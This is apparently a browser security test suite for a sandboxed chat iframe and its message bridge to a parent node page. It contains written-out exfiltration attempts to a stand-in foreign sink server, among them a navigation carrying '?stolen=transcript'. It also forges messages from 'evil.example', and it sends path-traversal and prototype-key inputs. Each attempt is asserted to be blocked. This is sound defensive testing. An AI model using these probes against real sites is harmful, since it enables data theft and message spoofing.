/**
 * What may not pass between the chat frame and the node: proven in the browser, from inside the frame.
 *
 * Owns the attacks. Scores what was called and what was posted, never what the page says of it.
 */

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, afterEach, before, describe, test } from 'node:test';
import { ask, chatFrame, countCalls, logIn, missing, openBrowser, openPage } from './browser.mjs';
import { startServer } from './server.mjs';

/** @import { Browser, Frame, Page } from 'playwright-core' */
/** @import { Server } from './server.mjs' */

describe('the bridge', { skip: missing }, () => {
  /** @type {Browser} */
  let browser;
  /** @type {Server} */
  let server;
  /** @type {Page} */
  let page;
  /** @type {Frame} */
  let chat;
  /** @type {() => number} */
  let chats;
  /** @type {() => Promise<void>} */
  let close;
  /** A server of somebody else, and what reached it. */
  const sink = createServer((request, response) => {
    sunk.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('<p>caught</p>');
  });
  /** @type {string[]} */
  const sunk = [];
  let elsewhere = '';
  before(async () => {
    await new Promise((resolve) => sink.listen(0, '127.0.0.1', () => resolve(undefined)));
    const address = sink.address();
    if (address !== null && typeof address === 'object') elsewhere = `http://127.0.0.1:${address.port}`;
    [browser, server] = await Promise.all([openBrowser(), startServer()]);
    ({ page, close } = await openPage(browser));
    chat = await logIn(page, server);
    chats = countCalls(page, 'assistant.chat');
  });
  afterEach(() => server.model.reset());
  after(async () => {
    await close?.();
    await browser?.close();
    await server?.stop();
    sink.close();
    sink.closeAllConnections();
  });

  /**
   * Posts from inside the frame and gives what the broker answers within a moment. A well-formed history request goes
   * last: messages are answered in order, so its answer is the sign that all before it were heard.
   * @param {unknown[]} messages
   * @returns {Promise<any[]>}
   */
  function post(messages) {
    return chat.evaluate(async (messages) => {
      /** @type {any[]} */
      const answers = [];
      const last = `last-${Math.random().toString(36).slice(2)}`;
      await new Promise((resolve) => {
        addEventListener('message', (event) => {
          if (event.data?.id === last) resolve(undefined);
          else answers.push(event.data);
        });
        for (const message of messages) parent.postMessage(message, '*');
        parent.postMessage({ type: 'chat:history', id: last }, '*');
      });
      return answers;
    }, messages);
  }

  test('the frame is sandboxed to scripts alone', async () => {
    assert.equal(await page.locator('iframe').getAttribute('sandbox'), 'allow-scripts');
    assert.equal(await chat.evaluate(() => self.origin), 'null');
  });

  test('the frame reads no cookie, no storage, and nothing of its parent', async () => {
    const reached = await chat.evaluate(() => {
      /** @type {Record<string, string>} */
      const reached = {};
      const tries = /** @type {Record<string, () => unknown>} */ ({
        cookie: () => document.cookie,
        localStorage: () => localStorage.length,
        sessionStorage: () => sessionStorage.length,
        indexedDB: () => indexedDB.open('x'),
        parentDocument: () => parent.document.title,
        parentLocation: () => parent.location.href,
        frameElement: () => (frameElement === null ? (() => { throw new Error('none'); })() : frameElement),
        topNavigation: () => void (top && (top.location.href = '/chat/')),
        popup: () => open('/chat/') ?? (() => { throw new Error('blocked'); })(),
      });
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          reached[name] = String(attempt());
        } catch {
          // Out of reach, as it should be.
        }
      }
      return reached;
    });
    assert.deepEqual(reached, {});
    assert.equal(new URL(page.url()).pathname, '/');
  });

  test('the frame reaches no server: not /rpc, not another one, in no way', async () => {
    /** What left the browser: a request that the policy blocks gets no response. @type {string[]} */
    const left = [];
    page.on('response', (response) => {
      if (response.frame() === chat) left.push(response.url());
    });
    const outcome = await chat.evaluate(async ({ origin, elsewhere }) => {
      /** @param {() => unknown} attempt */
      const tried = async (attempt) => {
        try {
          await attempt();
          return 'reached';
        } catch {
          return 'blocked';
        }
      };
      return {
        fetch: await tried(() => fetch(`${origin}/rpc`, { method: 'POST', body: '{}', credentials: 'include' })),
        healthz: await tried(() => fetch(`${origin}/healthz`)),
        xhr: await tried(() => new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.open('POST', `${origin}/rpc`);
          request.onload = resolve;
          request.onerror = reject;
          request.send('{}');
        })),
        foreign: await tried(() => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' })),
        foreignImage: await tried(() => new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = () => reject(new Error('blocked'));
          image.src = `${elsewhere}/image`;
        })),
        foreignBeacon: (navigator.sendBeacon(`${elsewhere}/beacon`, 'x'), 'blocked'),
        module: await tried(() => import(`${elsewhere}/module.js`)),
        beacon: navigator.sendBeacon(`${origin}/rpc`, 'x') ? 'queued' : 'blocked',
        events: await tried(() => new Promise((resolve, reject) => {
          const source = new EventSource(`${origin}/events`);
          source.onopen = resolve;
          source.onerror = () => reject(new Error('blocked'));
        })),
        socket: await tried(() => new Promise((resolve, reject) => {
          const socket = new WebSocket(`${origin.replace('http', 'ws')}/rpc`);
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error('blocked'));
        })),
        image: await tried(() => new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = () => reject(new Error('blocked'));
          image.src = `${origin}/icon.svg?secret`;
        })),
        script: await tried(() => new Promise((resolve, reject) => {
          const script = document.createElement('script');
          script.textContent = 'window.injected = true';
          document.head.append(script);
          if (/** @type {any} */ (window).injected) resolve(undefined);
          else reject(new Error('blocked'));
        })),
        form: await tried(() => {
          const form = document.createElement('form');
          form.action = `${origin}/rpc`;
          form.method = 'post';
          document.body.append(form);
          form.submit();
          throw new Error('submit gives no sign');
        }),
      };
    }, { origin: server.origin, elsewhere });
    for (const [way, result] of Object.entries(outcome)) {
      // A beacon may say that it is queued; whether it left is seen below.
      if (way !== 'beacon') assert.equal(result, 'blocked', way);
    }
    await page.waitForTimeout(300);
    assert.deepEqual(left, []);
    assert.deepEqual(sunk, []);
    assert.ok(page.frames().includes(chat), 'and it has not been navigated away');
  });

  test('unknown verbs, extra fields, wrong types and sizes are refused and run nothing', async () => {
    const before = chats();
    const answers = await post([
      'chat:request', null, 42, [], { type: 'chat:request' },
      { type: 'chat:request', id: 'x1', text: '' },
      { type: 'chat:request', id: 'x2', text: '   ' },
      { type: 'chat:request', id: 'x3', text: 5 },
      { type: 'chat:request', id: 'x4', text: 'hello', category: 'wallet' },
      { type: 'chat:request', id: 'x5', text: 'hello', confirm: true },
      { type: 'chat:request', id: 'x6', text: 'hello', turn_id: 'chosen' },
      { type: 'chat:confirm', id: 'x7', approve: true },
      { type: 'rpc', id: 'x8', method: 'assistant.confirm-tool' },
      { type: 'assistant.chat', id: 'x9', text: 'hello' },
      { type: 'constructor', id: 'x10', text: 'hello' },
      { type: '__proto__', id: 'x11', text: 'hello' },
      { type: 'chat:request', id: '../../etc', text: 'hello' },
      { type: 'chat:request', id: 'y'.repeat(65), text: 'hello' },
      { type: 'chat:request', id: '', text: 'hello' },
      { type: 'chat:request', id: 'x12', text: 'a'.repeat(16 * 1024 + 1) },
      { type: 'chat:request', id: 'x13', text: 'é'.repeat(8 * 1024 + 1) },
      { type: 'chat:stop', id: 'x14' },
      { type: 'chat:history', id: 'x15', session: 'another' },
    ]);
    assert.equal(chats(), before);
    assert.ok(answers.length > 0);
    for (const answer of answers) {
      assert.equal(answer.type, 'chat:response');
      assert.equal(answer.success, false);
      assert.equal(typeof answer.error, 'string');
    }
  });

  test('the longest text that is allowed is asked', async () => {
    server.model.say('Long.');
    const before = chats();
    const answer = await chat.evaluate(() => window.archyBridge?.sendChat('é'.repeat(8 * 1024)));
    assert.equal(answer?.text, 'Long.');
    assert.equal(chats(), before + 1);
  });

  test('an id works once', async () => {
    server.model.say('First.');
    const before = chats();
    const answers = await chat.evaluate(async () => {
      /** @type {any[]} */
      const answers = [];
      addEventListener('message', (event) => event.data?.id === 'once' && answers.push(event.data));
      const settled = (/** @type {number} */ count) => new Promise((resolve) => {
        const look = () => (answers.filter((answer) => answer.type === 'chat:response').length >= count ? resolve(undefined) : setTimeout(look, 10));
        look();
      });
      parent.postMessage({ type: 'chat:request', id: 'once', text: 'first' }, '*');
      // In flight, then answered: neither runs again.
      parent.postMessage({ type: 'chat:request', id: 'once', text: 'second' }, '*');
      await settled(1);
      parent.postMessage({ type: 'chat:request', id: 'once', text: 'third' }, '*');
      parent.postMessage({ type: 'chat:clear', id: 'once' }, '*');
      await window.archyBridge?.history();
      return answers;
    });
    assert.equal(chats(), before + 1);
    const responses = answers.filter((answer) => answer.type === 'chat:response');
    assert.equal(responses.length, 1);
    assert.equal(responses[0].text, 'First.');
  });

  test('a second question while one is answered is refused', async () => {
    const before = chats();
    server.model.hold();
    const second = await chat.evaluate(async () => {
      const first = window.archyBridge?.sendChat('first');
      const second = window.archyBridge?.sendChat('second').then(() => 'answered', (error) => error.message);
      void first?.catch(() => {});
      return second;
    });
    assert.match(String(second), /still being answered/);
    assert.equal(chats(), before + 1);
    server.model.release();
    await page.reload();
    chat = await chatFrame(page);
    await chat.locator('#thinking').waitFor({ state: 'hidden' });
  });

  test('after a refused second question the first can still be stopped', async () => {
    server.model.hold();
    const status = await chat.evaluate(async () => {
      const post = (/** @type {any} */ message) => parent.postMessage(message, location.origin);
      const answered = (/** @type {string} */ id) => /** @type {Promise<any>} */ (new Promise((resolve) => {
        addEventListener('message', ({ data }) => data.id === id && data.type === 'chat:response' && resolve(data));
      }));
      const [first, second] = [answered('slow-1'), answered('slow-2')];
      post({ type: 'chat:request', id: 'slow-1', text: 'first' });
      post({ type: 'chat:request', id: 'slow-2', text: 'second' });
      const refused = await second;
      post({ type: 'chat:stop', id: 'slow-3', request: 'slow-1' });
      return [refused.success, (await first).status];
    });
    assert.deepEqual(status, [false, 'stopped']);
    server.model.release();
  });

  test('a frame that is loaded anew gets the answer once, under the id that it was told', async () => {
    server.model.hold();
    server.model.say('Once only.');
    await ask(chat, 'Will you say it twice?');
    await chat.locator('#thinking').waitFor();
    const reloaded = page.waitForEvent('framenavigated', (navigated) => navigated === chat);
    await chat.evaluate(() => location.reload()).catch(() => {});
    await reloaded;
    await chat.locator('#thinking').waitFor();
    await chat.evaluate(() => {
      /** @type {any} */ (window).got = [];
      addEventListener('message', (event) => /** @type {any} */ (window).got.push(event.data));
    });
    server.model.release();
    await chat.getByText('Once only.').waitFor();
    await post([]);
    const got = await chat.evaluate(() => /** @type {any} */ (window).got);
    const answers = got.filter((/** @type {any} */ message) => message.text === 'Once only.');
    assert.deepEqual(answers.map((/** @type {any} */ answer) => answer.id.startsWith('running-')), [true]);
  });

  test('a message from the page itself, from another frame or from a forged event is not heard', async () => {
    const before = chats();
    await page.evaluate(async () => {
      const message = (/** @type {string} */ id) => ({ type: 'chat:request', id, text: 'from a stranger' });
      // The page to itself: the right window, another source.
      window.postMessage(message('forged-1'), '*');
      // An event made by hand, with the right origin and no source, and with a wrong one.
      window.dispatchEvent(new MessageEvent('message', { data: message('forged-2'), origin: 'null' }));
      window.dispatchEvent(new MessageEvent('message', { data: message('forged-3'), origin: 'null', source: window }));
      const real = /** @type {HTMLIFrameElement} */ (document.querySelector('iframe'));
      // The right source under a wrong origin, and under look-alikes of the right one.
      for (const origin of [location.origin, 'https://evil.example', 'null.example', ' null', 'NULL', '']) {
        window.dispatchEvent(new MessageEvent('message', { data: message('forged-4'), origin, source: real.contentWindow }));
      }
      // Another sandboxed frame: the same origin `null`, another source.
      const twin = document.createElement('iframe');
      twin.setAttribute('sandbox', 'allow-scripts');
      twin.src = '/aiui/';
      window.addEventListener('message', (event) => {
        if (event.source === twin.contentWindow && event.origin === 'null') twin.dataset.spoke = 'yes';
      });
      document.body.append(twin);
      await new Promise((resolve) => twin.addEventListener('load', resolve));
    });
    const twin = page.frames().at(-1);
    assert.ok(twin && twin !== chat);
    // It stands below the page, where Chromium draws no frames: the question is asked by the clock.
    await twin.waitForFunction(() => window.archyBridge !== undefined, null, { polling: 50 });
    await twin.evaluate(() => {
      /** @type {any} */ (window).got = [];
      addEventListener('message', (event) => /** @type {any} */ (window).got.push(event.data));
      window.archyBridge?.sendChat('from the twin').catch(() => {});
    });
    // The broker has heard the twin's message by the time that it answers a later one.
    await post([]);
    assert.deepEqual(await twin.evaluate(() => /** @type {any} */ (window).got), [], 'silence');
    assert.equal(await page.locator('iframe').nth(1).getAttribute('data-spoke'), 'yes', 'it did speak, from the same origin');
    assert.equal(chats(), before);
    await page.evaluate(() => document.querySelectorAll('iframe')[1]?.remove());
  });

  test('a foreign page that opens the node page, or would frame it, is not heard', async () => {
    const before = chats();
    const foreign = await page.context().newPage();
    await foreign.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<p>evil</p>' }));
    await foreign.goto('http://evil.example/');
    const framed = await foreign.evaluate(async (origin) => {
      const opened = window.open(`${origin}/`);
      const frame = document.createElement('iframe');
      frame.src = `${origin}/`;
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 1500));
      for (const target of [opened, frame.contentWindow]) {
        target?.postMessage({ type: 'chat:request', id: 'evil-1', text: 'from evil' }, '*');
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      try {
        return frame.contentDocument?.body?.textContent ?? 'out of reach';
      } catch {
        return 'out of reach';
      }
    }, server.origin);
    assert.doesNotMatch(framed, /Radio|Log in/);
    assert.equal(chats(), before);
    for (const opened of page.context().pages()) {
      if (opened !== page) await opened.close();
    }
  });

  test('the frame does not listen to strangers either', async () => {
    server.model.hold();
    await chat.evaluate(() => {
      addEventListener('message', ({ data }) => {
        if (data.type === 'chat:progress') /** @type {any} */ (window).askedId = data.id;
      });
    });
    await ask(chat, 'Whose answer is this?');
    await chat.waitForFunction(() => /** @type {any} */ (window).askedId !== undefined);
    await chat.evaluate(async () => {
      const data = { type: 'chat:response', id: /** @type {any} */ (window).askedId, success: true, text: 'forged' };
      // The right id, first from a wrong source, then under wrong origins from the right one.
      dispatchEvent(new MessageEvent('message', { data, origin: location.origin, source: window }));
      dispatchEvent(new MessageEvent('message', { data, origin: location.origin }));
      for (const origin of ['null', 'http://evil.example', `${location.origin}.evil.example`, '']) {
        dispatchEvent(new MessageEvent('message', { data, origin, source: parent }));
      }
      // And truly posted, by another window than the parent.
      window.postMessage(data, '*');
      await new Promise((resolve) => {
        addEventListener('message', (event) => event.data === 'last' && resolve(undefined));
        window.postMessage('last', '*');
      });
    });
    assert.equal(await chat.getByText('forged').count(), 0);
    server.model.say('The node’s.');
    server.model.release();
    await chat.getByText('The node’s.').waitFor();
  });

  test('a frame that navigates elsewhere gets nothing and takes nothing along', async () => {
    const { page, close } = await openPage(browser);
    const frame = await logIn(page, server);
    const gone = page.waitForEvent('framenavigated', (navigated) => navigated === frame);
    await frame.evaluate((elsewhere) => void (location.href = `${elsewhere}/?stolen=transcript`), elsewhere).catch(() => {});
    await gone;
    assert.match(frame.url(), /^chrome-error:/);
    assert.deepEqual(sunk, []);
    await close();
  });
});
